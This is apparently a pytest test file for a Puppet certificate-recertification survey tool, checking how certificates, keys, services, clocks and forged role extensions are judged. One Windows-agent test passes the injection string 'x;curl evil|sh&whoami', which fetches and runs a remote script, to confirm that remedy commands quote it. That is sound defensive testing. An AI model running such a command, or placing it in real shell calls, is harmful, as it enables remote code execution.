"""What a survey makes of what was seen."""

from __future__ import annotations

import subprocess
from collections.abc import Iterable
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from recert import standing
from recert.backups import Manifest
from recert.ca_records import Autosign, Autosigning
from recert.certificates import Certificate
from recert.deployments.pe_3_7 import PE_3_7
from recert.deployments.pe_2015_2 import PE_2015_2
from recert.extensions import ARC
from recert.findings import FindingKind, Flaw
from recert.looks import HostLook
from recert.observed import FileState, LastRun, Service
from recert.others import PRIVATE_KEY, Stray
from recert.report import CertificateRecord, Problem, Role, Severity, Standing
from recert.survey import SiteState
from tests.unit.agent import AGENT, SERIAL, agent
from tests.unit.issuing_ca import (
    CERTNAME,
    CONFDIR,
    MADE,
    NEW,
    NOW,
    OLD,
    SSLDIR,
    IssuingCa,
    key_digest,
    key_pem,
    master,
    read,
    without_parameters,
)
from tests.unit.looks import look_at_agent, look_at_master, site, with_file

THIRD = IssuingCa("third-ca")
ROLE = f"{ARC}.1.13"
ELSEWHERE = "/etc/puppetlabs/elsewhere.pem"
DASHBOARD_KEY = f"{SSLDIR}/private_keys/pe-internal-dashboard.pem"


pytestmark = pytest.mark.usefixtures("short_keys_will_do")


@pytest.fixture
def well() -> SiteState:
    web = agent()
    return site(look_at_master(master(), [web]), look_at_agent(web), named=False)


def record(state: SiteState, path: str, host: str = "master") -> CertificateRecord:
    (found,) = [r for r in state.certificates if (r.host, r.path) == (host, path)]
    return found


def said(state: SiteState, severity: Severity | None = None) -> set[tuple[str, str, str]]:
    return {
        (p.host, p.subject, p.what)
        for p in state.problems
        if severity is None or p.severity is severity
    }


def changed(state: SiteState, host: str, **changes: object) -> SiteState:
    looks = [replace(x, **changes) if x.host == host else x for x in state.looks]  # type: ignore[arg-type]
    return replace(state, looks=tuple(looks))


def only(problems: Iterable[Problem]) -> Problem:
    (problem,) = problems
    return problem


BOUGHT = "/opt/puppetlabs/server/data/console-services/certs/public-console.cert.pem"


@pytest.mark.parametrize(("ca", "told"), [(THIRD, False), (OLD, True)])
def test_what_was_put_there_by_hand_is_told_if_it_is_of_the_retired_ca(
    ca: IssuingCa, told: bool
) -> None:
    web = agent()
    look = replace(look_at_master(master(deployment=PE_2015_2), [web]), deployment=PE_2015_2)
    state = site(with_file(look, BOUGHT, ca.issue("console", 9)), look_at_agent(web))
    whats = {what for host, subject, what in said(state) if subject == BOUGHT}
    assert ("is of the CA to retire" in whats, bool(whats)) == (told, told)


def test_a_site_that_works_has_no_problems(well: SiteState) -> None:
    snapshot = well.snapshot()
    assert snapshot.problems == ()
    assert [(host.host, host.well, host.in_inventory) for host in snapshot.hosts] == [
        ("master", True, True),
        ("web01", True, True),
    ]
    assert snapshot.ca is not None
    assert snapshot.ca.fingerprint == NEW.certificate.fingerprint
    assert (snapshot.ca.signed, snapshot.ca.revoked) == (7, 0)
    assert {r.standing for r in snapshot.certificates} == {Standing.GOOD}
    assert {r.belongs for r in snapshot.certificates} == {True, None}


def test_a_certificate_tells_all_that_is_known_of_it(well: SiteState) -> None:
    found = record(well, f"/etc/puppetlabs/puppetdb/ssl/{CERTNAME}.cert.pem")
    assert found.subject == CERTNAME
    assert found.alt_names == (CERTNAME, "puppet", "puppet.example.com")
    assert (found.serial, found.key_bits, found.signature) == ("0x0002", 1024, "sha256")
    assert found.issuer_fingerprint == NEW.certificate.fingerprint
    assert (found.belongs, found.used_by) == (True, ("pe-puppetdb",))
    assert (found.owner, found.mode) == ("pe-puppetdb:pe-puppetdb", "0644")
    assert record(well, f"{SSLDIR}/ca/ca_crt.pem").is_ca


@pytest.mark.parametrize(
    ("ca", "named", "worth"),
    [
        (NEW, True, Standing.GOOD),
        (OLD, True, Standing.RETIRED),
        (OLD, False, Standing.FOREIGN),
        (THIRD, True, Standing.FOREIGN),
    ],
)
def test_a_certificate_is_judged_by_who_made_it(
    well: SiteState, ca: IssuingCa, named: bool, worth: Standing
) -> None:
    look = with_file(well.looks[0], ELSEWHERE, ca.issue("old", 9))
    assert record(site(look, named=named), ELSEWHERE).standing is worth
    # A CA's own certificate is of that CA, also where its key was certified anew.
    assert (
        record(site(with_file(look, ELSEWHERE, ca.pem), named=named), ELSEWHERE).standing is worth
    )


def test_the_retired_key_certified_anew_is_still_retired(well: SiteState) -> None:
    again = IssuingCa("old-ca", serial=7, expires=NOW + timedelta(days=9999))
    look = with_file(well.looks[0], ELSEWHERE, again.pem)
    assert record(site(look), ELSEWHERE).standing is Standing.RETIRED


def test_an_older_ca_is_known_from_the_backups(well: SiteState) -> None:
    look = with_file(well.looks[0], ELSEWHERE, THIRD.issue("old", 9))
    manifest = Manifest("", "", "", None, None, None, None, (), {}, ca_certificate=THIRD.pem)
    assert look.master is not None
    look = replace(look, master=replace(look.master, manifests=(manifest,)))
    found = record(site(look), ELSEWHERE)
    assert (found.standing, found.issuer_fingerprint) == (
        Standing.FOREIGN,
        THIRD.certificate.fingerprint,
    )


@pytest.mark.parametrize(
    ("days", "worth"),
    [(91, Standing.GOOD), (90, Standing.EXPIRING), (1, Standing.EXPIRING), (0, Standing.EXPIRED)],
)
def test_a_certificate_has_to_be_renewed_within_ninety_days(
    well: SiteState, days: int, worth: Standing
) -> None:
    pem = NEW.issue("soon", 9, expires=NOW + timedelta(days=days))
    state = site(with_file(well.looks[0], ELSEWHERE, pem), named=False)
    assert record(state, ELSEWHERE).standing is worth
    assert bool(said(state)) is (worth is not Standing.GOOD)


def test_a_short_key_is_a_warning(well: SiteState, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(standing, "SHORTEST_KEY", 2048)
    own = f"{SSLDIR}/certs/{AGENT}.pem"
    assert ("web01", own, "has a 1024-bit key") in said(well, Severity.WARNING)
    assert record(well, own, "web01").standing is Standing.GOOD


@pytest.mark.parametrize("digest", ["md5", "sha1"])
def test_a_forgeable_signature_is_a_warning(well: SiteState, digest: str, tmp_path: Path) -> None:
    pem = signed_over(digest, tmp_path)
    cert = read(pem)
    assert cert.signature_hash == digest and cert.issued_by(NEW.certificate)
    look = with_file(well.looks[0], ELSEWHERE, pem)
    weak = ("master", ELSEWHERE, f"is signed over {digest.upper()}")
    assert weak in said(site(look, named=False), Severity.WARNING)


def signed_over(digest: str, directory: Path) -> str:
    """A certificate of the new CA with a signature that `cryptography` no longer makes."""
    ca, ca_key, own_key = (directory / name for name in ("ca.pem", "ca.key", "own.key"))
    ca.write_text(NEW.pem)
    ca_key.write_text(key_pem(NEW.key))
    own_key.write_text(key_pem("weak"))
    request = ["openssl", "req", "-new", "-key", str(own_key), "-subj", "/CN=weak.example.com"]
    made = subprocess.run(request, capture_output=True, check=True)
    sign = ["openssl", "x509", "-req", f"-{digest}", "-CA", str(ca), "-CAkey", str(ca_key)]
    signed = subprocess.run(
        [*sign, "-set_serial", "9"], input=made.stdout, capture_output=True, check=True
    )
    return signed.stdout.decode("ascii")


def test_a_swapped_key_is_named_without_all_that_depends_on_it() -> None:
    broken = master()
    broken.write_key(DASHBOARD_KEY, "another")
    found = said(site(look_at_master(broken), named=False), Severity.BAD)
    assert ("master", DASHBOARD_KEY, "does not belong to the certificate") in found
    assert {subject for _, subject, _ in found if subject.startswith(SSLDIR)} == {DASHBOARD_KEY}
    assert not any("goes" in what or "will be copied" in what for *_, what in found)


def test_a_key_that_others_can_read(well: SiteState) -> None:
    look = with_file(well.looks[1], f"{SSLDIR}/private_keys/{AGENT}.pem", mode=0o644)
    problem = only(site(well.looks[0], look, named=False).problems)
    assert (problem.severity, problem.what) == (Severity.BAD, "is open to others (0644)")
    assert problem.remedy == f"chmod o-rwx -- {SSLDIR}/private_keys/{AGENT}.pem"


def test_what_others_have_below_pes_directories_is_their_affair(well: SiteState) -> None:
    bundle = "/opt/puppet/share/puppet-dashboard/vendor/gem/ca-bundle.crt"
    key = "/opt/puppet/share/puppet-dashboard/vendor/gem/test/server.key"
    look = with_file(well.looks[0], bundle, THIRD.pem + THIRD.issue("other", 7))
    look = with_file(look, key, mode=0o644, key="12:34")
    assert site(look, well.looks[1], named=False).problems == ()
    # But not what is of the retired CA, wherever in a bundle it stands.
    look = with_file(look, bundle, THIRD.pem + OLD.issue("old", 9) + NEW.pem)
    problem = only(site(look, well.looks[1]).problems)
    assert (problem.subject, problem.what) == (bundle, "is of the CA to retire")


def test_an_agent_of_the_old_ca() -> None:
    old = agent(OLD)
    state = site(look_at_master(master()), look_at_agent(old), named=False)
    host = state.snapshot().hosts[1]
    assert not host.well
    assert "was not issued by the master's CA" in host.why
    untrusted = "is not the certificate of the master's CA"
    assert ("web01", f"{SSLDIR}/certs/ca.pem", untrusted) in said(state)
    assert (host.in_inventory, host.trusts) == (False, OLD.certificate.fingerprint)
    both = agent()
    both.write(both.settings.localcacert, NEW.pem + OLD.pem)
    state = site(look_at_master(master(), [both]), look_at_agent(both))
    given_up = "has the certificate of a CA that the site has given up"
    assert ("web01", f"{SSLDIR}/certs/ca.pem", given_up) in said(state)


def test_a_remedy_names_the_ca_that_is_gone_where_it_is_known() -> None:
    def remedy(named: bool, *backed_up: str | None) -> str:
        own = look_at_master(master())
        assert own.master is not None
        manifests = tuple(
            Manifest("", "", "", fingerprint, None, None, None, (), {}) for fingerprint in backed_up
        )
        own = replace(own, master=replace(own.master, manifests=manifests))
        found = site(own, look_at_agent(agent(OLD)), named=named).findings
        (one,) = {f.remedy for f in found if f.kind is FindingKind.CA_NOT_TRUSTED}
        return one

    old, third, new = (ca.certificate.fingerprint for ca in (OLD, THIRD, NEW))
    run = "Run deploys/agents.py with"
    assert remedy(False) == f"{run} the retire_ca of the CA that is gone."
    assert remedy(False, None, new) == f"{run} the retire_ca of the CA that is gone."
    assert remedy(False, third, old, None, new) == f"{run} --data retire_ca={old}"
    assert remedy(True, third) == f"{run} --data retire_ca={old}"


def test_what_is_going_to_be_retired_is_no_problem_yet() -> None:
    old = agent(OLD)
    old.ca = OLD
    looks = look_at_master(master(OLD), [old]), look_at_agent(old)
    assert not any("CA to retire" in p.what for p in site(*looks, retiring=True).problems)
    assert {r.standing for r in site(*looks, retiring=True).certificates} == {Standing.RETIRED}
    assert any("CA to retire" in p.what for p in site(*looks).problems)


def test_a_stopped_service_a_wrong_clock_and_a_disabled_agent(well: SiteState) -> None:
    state = changed(
        well,
        "web01",
        services={"pe-puppet": Service.STOPPED, "pe-mcollective": Service.MISSING},
        clock_ahead=-400.0,
        disabled="on holiday",
        last_run=LastRun(MADE, succeeded=False),
    )
    assert said(state) == {
        ("web01", "pe-puppet", "does not run"),
        ("web01", "clock", "is 400 s behind the master's"),
        ("web01", "Puppet agent", "is disabled"),
        ("web01", "last Puppet run", "has not succeeded"),
    }


def test_certificates_for_names_that_nobody_has(well: SiteState) -> None:
    # Whatever a host is called in the inventory, its certname is what it has said.
    assert replace(well, inventory_names=frozenset()).problems == ()
    db = NEW.issue("db01", 9)
    state = site(with_file(well.looks[0], f"{SSLDIR}/ca/signed/db01.pem", db), well.looks[1])
    problem = only(state.problems)
    assert (problem.severity, problem.subject) == (Severity.WARNING, "db01")
    assert "no host of the inventory has that name" in problem.what
    assert "`puppet cert clean` the name" in problem.remedy


def test_what_hosts_are_called_is_not_known_before_they_are_asked(well: SiteState) -> None:
    db = NEW.issue("db01", 9)
    state = site(with_file(well.looks[0], f"{SSLDIR}/ca/signed/db01.pem", db), well.looks[1])
    problem = only(replace(state, not_asked=("10.0.0.7",)).problems)
    assert "no host of the inventory is called like that" in problem.what
    assert "is not known yet: 1 not asked" in problem.remedy
    assert "Clean none of these names" in problem.remedy


def test_without_the_masters_ca_certificates_are_not_judged(well: SiteState) -> None:
    soon = NEW.issue("soon", 9, expires=NOW + timedelta(days=1))
    state = site(with_file(well.looks[1], ELSEWHERE, soon), named=False)
    own = record(state, f"{SSLDIR}/certs/{AGENT}.pem", "web01")
    assert (own.standing, own.problems, own.belongs) == (Standing.UNJUDGED, (), None)
    assert record(state, ELSEWHERE, "web01").standing is Standing.EXPIRING
    assert not any("remove it" in problem.remedy for problem in state.problems)


def test_the_masters_clock_is_compared_with_the_control_machines(well: SiteState) -> None:
    state = changed(well, "master", clock_ahead=-500.0)
    assert ("master", "clock", "is 500 s behind the control machine's") in said(state)
    assert state.snapshot().hosts[0].clock_skew == -500.0


@pytest.mark.parametrize(("role", "remedy"), [(Role.AGENT, "rm "), (Role.WINDOWS_AGENT, 'del "')])
def test_a_revocation_list_of_the_old_ca(role: Role, remedy: str) -> None:
    web = agent()
    web.write(web.settings.hostcrl, OLD.crl())
    look = replace(look_at_agent(web), role=role)
    problem = only(site(look_at_master(master(), [web]), look, named=False).problems)
    assert (problem.severity, problem.subject) == (Severity.BAD, f"{SSLDIR}/crl.pem")
    assert problem.remedy.startswith(remedy)


def test_a_damaged_ca_is_named_alone() -> None:
    broken = master()
    broken.write(broken.settings.cacert, "garbage")
    found = said(site(look_at_master(broken), named=False), Severity.BAD)
    assert ("master", f"{SSLDIR}/ca/ca_crt.pem", "is not a certificate") in found
    assert len({subject for _, subject, _ in found if subject.startswith(f"{SSLDIR}/certs")}) == 0


def test_a_host_that_cannot_be_seen_ends_nothing(well: SiteState) -> None:
    gone = HostLook("app01", Role.AGENT, PE_3_7, "it could not be connected to")
    windows = HostLook("win01", Role.WINDOWS_AGENT, PE_3_7, "it has no Puppet")
    snapshot = site(*well.looks, gone, windows, named=False).snapshot()
    assert [(p.severity, p.host) for p in snapshot.problems] == [
        (Severity.BAD, "app01"),
        (Severity.BAD, "win01"),
    ]
    assert [host.well for host in snapshot.hosts] == [True, True, False, False]


def test_a_windows_agent_is_judged_by_its_own_places() -> None:
    web = agent()
    place = "C:/ProgramData/PuppetLabs/mcollective"
    seen = replace(
        look_at_agent(web, "win01"),
        role=Role.WINDOWS_AGENT,
        services={"pe-puppet": Service.STOPPED},
        credential_places=(place,),
    )
    foreign = {f"{place}/etc/a.pem": THIRD.pem, "C:/ProgramData/PuppetLabs/puppet/a.pem": THIRD.pem}
    for path, pem in foreign.items():
        entry = FileState("f", 0, "", "", len(pem), MADE)
        seen = with_file(seen, path, pem)
        seen = replace(seen, found=replace(seen.found, files={**seen.found.files, path: entry}))
    seen = replace(seen, found=replace(seen.found, unreadable=frozenset({f"{place}/b.pem"})))
    state = site(look_at_master(master(), [web]), seen, named=False)
    assert said(state) == {
        ("win01", f"{place}/b.pem", "may not be read by the connected account"),
        ("win01", f"{place}/etc/a.pem", "is not of the CA in place"),
        ("win01", "pe-puppet", "does not run"),
    }
    remedies = {p.subject: p.remedy for p in state.problems}
    assert remedies["pe-puppet"].startswith("net start pe-puppet;")
    hostile = "x;curl evil|sh&whoami"
    assert "'x;curl evil|sh&whoami'" in look_at_master(master()).kind.start(hostile)
    assert '"x;curl evil|sh&whoami"' in seen.kind.start(hostile)
    placed = record(state, f"{place}/etc/a.pem", "win01")
    assert (placed.owner, placed.mode) == ("", "")


def test_agents_alone_are_looked_at_without_their_master(well: SiteState) -> None:
    state = site(well.looks[1], named=False)
    snapshot = state.snapshot()
    assert snapshot.ca is None
    assert snapshot.hosts[0].in_inventory is None
    assert snapshot.hosts[0].fingerprint is not None


def test_an_empty_and_a_garbled_certificate(well: SiteState) -> None:
    look = with_file(well.looks[1], f"{SSLDIR}/certs/{AGENT}.pem", "garbage")
    certs = {k: v for k, v in look.found.certificates.items() if v != "garbage"}
    pems = look.found.pems - {f"{SSLDIR}/certs/{AGENT}.pem"}
    look = replace(look, found=replace(look.found, certificates=certs, pems=pems))
    found = record(site(look, named=False), f"{SSLDIR}/certs/{AGENT}.pem", "web01")
    assert (found.standing, found.problems) == (
        Standing.UNUSABLE,
        ("cannot be read as a certificate",),
    )
    assert found.subject is None


def with_retired(state: SiteState, pem: str, **side: object) -> SiteState:
    """The same, where the master still has what the CA to retire had signed."""
    assert state.master is not None and state.master.master is not None
    before = {read(pem).subject: read(pem)}
    own = replace(state.master.master, retired_certificates=before, **side)  # type: ignore[arg-type]
    return changed(state, "master", master=own)


FORGED = NEW.issue(AGENT, SERIAL, extensions=[(ROLE, "puppet::master")])


def with_forged(well: SiteState, pem: str = FORGED, shown: str = FORGED) -> SiteState:
    """The same, where the master has signed this for the agent, which shows that."""
    own, held = f"{SSLDIR}/certs/{AGENT}.pem", f"{SSLDIR}/ca/signed/{AGENT}.pem"
    web = with_file(well.looks[1], own, shown)
    web = replace(web, ssl=replace(web.ssl, texts={**web.ssl.texts, own: shown}))
    return replace(well, looks=(with_file(well.looks[0], held, pem), web))


def test_what_a_master_has_signed_by_itself_and_the_node_did_not_have(well: SiteState) -> None:
    plain, all_of_them = OLD.issue(AGENT, SERIAL), Autosign(Autosigning.ALL)

    def told(state: SiteState, former: str = plain, autosign: Autosign = all_of_them) -> set[str]:
        found = with_retired(state, former, autosign=autosign).problems
        assert {(p.host, p.severity) for p in found} <= {("web01", Severity.BAD)}
        return {p.what for p in found}

    forged = with_forged(well)
    (what,) = told(forged)
    assert what.endswith("signs by itself: pp_role = 'puppet::master'")
    (problem,) = with_retired(forged, plain, autosign=all_of_them).problems
    assert f"`puppet cert clean -- {AGENT}`" in problem.remedy
    assert f"--data approved_certs={read(FORGED).fingerprint}" in problem.remedy
    # Whatever the node shows.
    assert what in told(with_forged(well, shown=NEW.issue(AGENT, SERIAL)))
    # Somebody has approved it, or typed `puppet cert sign`, or nobody can know.
    approved = replace(forged, approved=frozenset({read(FORGED).fingerprint}))
    assert told(approved) == set()
    assert told(forged, autosign=Autosign()) == set()
    assert told(forged, former=OLD.issue("another", 7)) == set()
    assert told(forged, former=OLD.issue(AGENT, 7, extensions=[(ROLE, "puppet::master")])) == set()
    assert told(well) == set()


def test_what_is_not_believed_allows_nothing_and_is_not_missed(well: SiteState) -> None:
    role = OLD.issue(AGENT, SERIAL, extensions=[(ROLE, "puppet::master")])

    def told(state: SiteState) -> set[str]:
        assert state.master is not None and state.master.master is not None
        own = replace(
            state.master.master,
            doubted=frozenset({AGENT}),
            autosign=Autosign(Autosigning.ALL),
            retired_certificates={},
        )
        return {p.what for p in changed(state, "master", master=own).problems}

    (what,) = told(with_forged(well))
    assert "says more than its name, and that of the retired CA is not believed" in what
    assert what.endswith("pp_role = 'puppet::master'")
    assert told(well) == set()
    assert with_retired(well, role).problems, "it would be missed if it were believed"


def test_extensions_that_were_lost_or_would_be(well: SiteState) -> None:
    path = f"{SSLDIR}/certs/{AGENT}.pem"
    had = NEW.issue(AGENT, SERIAL, extensions=[(ROLE, "web")])
    state = changed(well, "web01", csr_attributes=("extension_requests:\n  pp_role: db",))
    assert said(state) == set()
    look = with_file(state.looks[1], path, had)
    with_role = site(state.looks[0], look, named=False)
    assert ("web01", f"{CONFDIR}/csr_attributes.yaml") in {p[:2] for p in said(with_role)}
    (what,) = (p[2] for p in said(with_role) if p[1].endswith(".yaml"))
    assert what == "does not ask for pp_role=web of the certificate"

    lost = with_retired(well, OLD.issue(AGENT, SERIAL, extensions=[(ROLE, "web")]))
    (problem,) = lost.problems
    assert (problem.severity, problem.host, problem.subject) == (Severity.WARNING, "web01", path)
    assert problem.what == "lacks pp_role=web, which its certificate of the retired CA had"


def test_names_that_a_certificate_has_lost_are_told(well: SiteState) -> None:
    path = f"{SSLDIR}/certs/{AGENT}.pem"

    def told(*had: str, host: str = AGENT) -> SiteState:
        return with_retired(well, OLD.issue(host, SERIAL, had))

    problem = only(told(AGENT, "www.example.com").problems)
    assert (problem.severity, problem.host, problem.subject) == (Severity.WARNING, "web01", path)
    assert problem.what == "lacks the names www.example.com, which that of the retired CA had"
    assert "dns_alt_names" in problem.remedy
    # Its own, the master's, and what the master's administrator has decided on.
    assert told(AGENT, "puppet", CERTNAME).problems == ()
    assert told("old-puppet", host=CERTNAME).problems == ()
    # What has become another host's.
    web = agent(certname="www.example.com")
    looks = told(AGENT, "www.example.com").looks
    second = look_at_agent(web, "web02")
    for borne_out in (True, False):
        # Saying so does not make it that one's.
        both = site(*looks, replace(second, borne_out=borne_out), named=False)
        assert bool([p for p in both.problems if "lacks the names" in p.what]) is not borne_out
    # What the CA has signed for it does, unless anybody gets that.
    held = f"{SSLDIR}/ca/signed/www.example.com.pem"
    looks = (with_file(looks[0], held, NEW.issue("www.example.com", 9)), *looks[1:])
    for kind in (Autosigning.OFF, Autosigning.ALL):
        assert looks[0].master is not None
        side = replace(looks[0].master, autosign=Autosign(kind))
        both = site(replace(looks[0], master=side), looks[1], second, named=False)
        lost = [p for p in both.problems if "lacks the names" in p.what]
        assert bool(lost) is (kind is Autosigning.ALL)


def test_what_is_somebody_elses_is_noted_and_nothing_else(well: SiteState) -> None:
    eyaml = f"{SSLDIR}/eyaml.pem"
    stray = Stray(eyaml, PRIVATE_KEY, keys=(key_digest("eyaml"),))
    look = with_file(well.looks[1], eyaml, mode=0o644, key=key_digest("eyaml"))
    state = site(well.looks[0], replace(look, strays=(stray,)), named=False)
    problem = only(state.problems)
    assert (problem.severity, problem.subject) == (Severity.NOTE, eyaml)
    assert "is a private key of no CA of this site's, and is left alone" in problem.what


@pytest.mark.parametrize("name", ["puppet", CERTNAME, "pe-internal-dashboard"])
def test_a_host_that_calls_itself_as_the_master_is_called(well: SiteState, name: str) -> None:
    conf = well.looks[1].settings
    assert conf is not None
    found = changed(well, "web01", settings=replace(conf, certname=name))
    assert any(
        (p.host, p.subject, p.severity) == ("web01", name, Severity.BAD) for p in found.problems
    )


def test_two_hosts_of_one_name(well: SiteState) -> None:
    second = replace(well.looks[1], host="web02")
    found = replace(well, looks=(*well.looks, second))
    named = {p.host for p in found.problems if p.subject == AGENT}
    assert named == {"web01", "web02"}


@pytest.mark.parametrize(
    ("borne_out", "blamed"),
    [
        (["web01"], ["web02"]),
        (["web02"], ["web01"]),
        ([], ["web01", "web02"]),
        (["web01", "web02"], ["web01", "web02"]),
    ],
    ids=str,
)
def test_who_has_a_name_by_right_is_not_blamed_for_another(
    well: SiteState, borne_out: list[str], blamed: list[str]
) -> None:
    looks = [replace(well.looks[1], host=host) for host in ("web01", "web02")]
    looks = [replace(look, borne_out=look.host in borne_out) for look in looks]
    found = replace(well, looks=(well.looks[0], *looks))
    assert {p.host for p in found.problems if p.subject == AGENT} == {*blamed}


# What was made to do harm


def test_a_certificate_whose_signature_cannot_be_read_is_judged_all_the_same(
    well: SiteState,
) -> None:
    look = with_file(well.looks[1], ELSEWHERE, without_parameters(NEW.issue("odd", 9)))
    found = replace(well, looks=(well.looks[0], look)).snapshot()
    (odd,) = (record for record in found.certificates if record.path == ELSEWHERE)
    assert (odd.standing, odd.signature) == (Standing.FOREIGN, None)
    assert all(host.well for host in found.hosts)


ODD = f"{SSLDIR}/certs/odd.pem"


@pytest.fixture
def judged(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The subjects that have been judged, where a judgement over that of `ODD` fails."""
    made: list[str] = []
    weaknesses = standing.weaknesses

    def failing(cert: Certificate) -> list[Flaw]:
        made.append(cert.subject)
        if cert.subject == "odd":
            raise ValueError("nobody has thought of that")
        return weaknesses(cert)

    monkeypatch.setattr(standing, "weaknesses", failing)
    return made


@pytest.mark.parametrize("number", [0, 1], ids=["the master", "an agent"])
def test_who_cannot_be_judged_keeps_nobody_else_from_it(
    well: SiteState, judged: list[str], number: int
) -> None:
    looks, whose = list(well.looks), well.looks[number].host
    looks[number] = with_file(looks[number], ODD, NEW.issue("odd", 9))
    found = replace(well, looks=tuple(looks)).snapshot()
    bad = [problem for problem in found.problems if problem.severity is Severity.BAD]
    assert [(one.host, one.what) for one in bad] == [
        (whose, "what it shows cannot be judged: ValueError: nobody has thought of that")
    ]
    assert {host.host: (host.answered, host.well) for host in found.hosts} == {
        look.host: (True, look.host != whose) for look in looks
    }
    assert {record.host for record in found.certificates} == {
        look.host for look in looks if look.host != whose
    }


def test_who_can_be_judged_is_judged_once(well: SiteState, judged: list[str]) -> None:
    turns: list[int] = []
    state = replace(well, pause=lambda: turns.append(len(judged)))
    state.snapshot()
    once = len(judged)
    assert once == len([r for r in state.certificates if r.subject])
    state.snapshot()
    assert len(judged) == once
    assert len(turns) == len(state.looks) and turns[0] > 0


def test_others_have_a_turn_while_a_host_of_many_certificates_is_judged(
    well: SiteState, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("recert.turns.AT_ONCE", 2)
    turns: list[None] = []
    state = replace(well, pause=lambda: turns.append(None))
    certificates = len(state.judged_certificates(state.looks[0]))
    assert len(turns) == certificates // 2 > 1


def test_a_host_in_no_group_is_nobodys_and_told(well: SiteState) -> None:
    one = only(replace(well, groupless={"web03": "agent"}).problems)
    assert (one.host, one.severity) == ("web03", Severity.BAD)
    assert one.what == "is in none of the groups of agents (in agent), and was not looked at"
